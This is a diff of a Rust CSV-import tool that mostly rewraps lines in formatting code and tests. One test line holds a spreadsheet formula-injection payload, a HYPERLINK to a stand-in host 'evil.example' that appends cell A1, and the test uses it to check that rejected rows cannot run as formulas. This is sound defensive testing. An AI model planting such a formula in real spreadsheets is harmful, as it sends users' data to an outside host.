@@ -215,13 +215,12 @@ fn progress(len: u64, what: &str) -> ProgressBar {
 fn progress_style() -> Option<ProgressStyle> {
     let style =
         ProgressStyle::with_template("{msg} [{bar:40}] {pos}/{len} ({rate}, {eta} left)").ok()?;
-    Some(
-        style
-            .progress_chars("=> ")
-            .with_key("rate", |s: &ProgressState, w: &mut dyn std::fmt::Write| {
-                let _ = w.write_str(&rate(s.per_sec()));
-            }),
-    )
+    Some(style.progress_chars("=> ").with_key(
+        "rate",
+        |s: &ProgressState, w: &mut dyn std::fmt::Write| {
+            let _ = w.write_str(&rate(s.per_sec()));
+        },
+    ))
 }
 
 /// Rows (or certificates) per second, rounded as a person would say it:
@@ -259,7 +258,9 @@ impl<'a> Lines<'a> {
     /// `\r\n`) and skips blank lines, so the record begins at the first byte
     /// from there on that is not a line break.
     fn of_record(&self, offset: u64) -> u64 {
-        let mut o = usize::try_from(offset).unwrap_or(usize::MAX).min(self.bytes.len());
+        let mut o = usize::try_from(offset)
+            .unwrap_or(usize::MAX)
+            .min(self.bytes.len());
         while o < self.bytes.len() && matches!(self.bytes[o], b'\r' | b'\n') {
             o += 1;
         }
@@ -303,7 +304,10 @@ fn read(file: &std::path::Path, default_action: &str) -> anyhow::Result<(Vec<Str
     for record in reader.records() {
         match record {
             Ok(rec) => {
-                let line = rec.position().map(|p| lines.of_record(p.byte())).unwrap_or(0);
+                let line = rec
+                    .position()
+                    .map(|p| lines.of_record(p.byte()))
+                    .unwrap_or(0);
                 let cells: Vec<String> = rec.iter().map(str::to_owned).collect();
                 let request = if cells.len() != headers.len() {
                     Err(format!(
@@ -517,7 +521,10 @@ mod tests {
             [2, 4, 7]
         );
         // An unreadable row (not UTF-8) has its line too.
-        assert_eq!(lines_of(b"username,course_id\r\na,c\r\nb,\xff\r\nd,c\r\n"), [2, 3, 4]);
+        assert_eq!(
+            lines_of(b"username,course_id\r\na,c\r\nb,\xff\r\nd,c\r\n"),
+            [2, 3, 4]
+        );
     }
 
     fn reject(cells: &[&str], message: &str) -> Reject {
@@ -537,9 +544,7 @@ mod tests {
     fn rejects_file_cells_cannot_run_as_formulas() {
         let dir = tempfile::tempdir().unwrap();
         let path = dir.path().join("rejects.csv");
-        let headers: Vec<String> = ["username", "course_id", "name"]
-            .map(String::from)
-            .to_vec();
+        let headers: Vec<String> = ["username", "course_id", "name"].map(String::from).to_vec();
         let evil = "=HYPERLINK(\"https://evil.example/?\"&A1,\"click\")";
         write_rejects(
             &path,
@@ -625,7 +630,10 @@ mod tests {
         bar.inc(400);
         bar.finish();
         let text = screen.0.lock().unwrap().clone();
-        assert!(text.contains("submitting [") && text.contains("/1000 ("), "{text}");
+        assert!(
+            text.contains("submitting [") && text.contains("/1000 ("),
+            "{text}"
+        );
         let (before, _) = text.rsplit_once("/s, ").expect("a rate");
         let number = before.rsplit('(').next().unwrap();
         assert!(
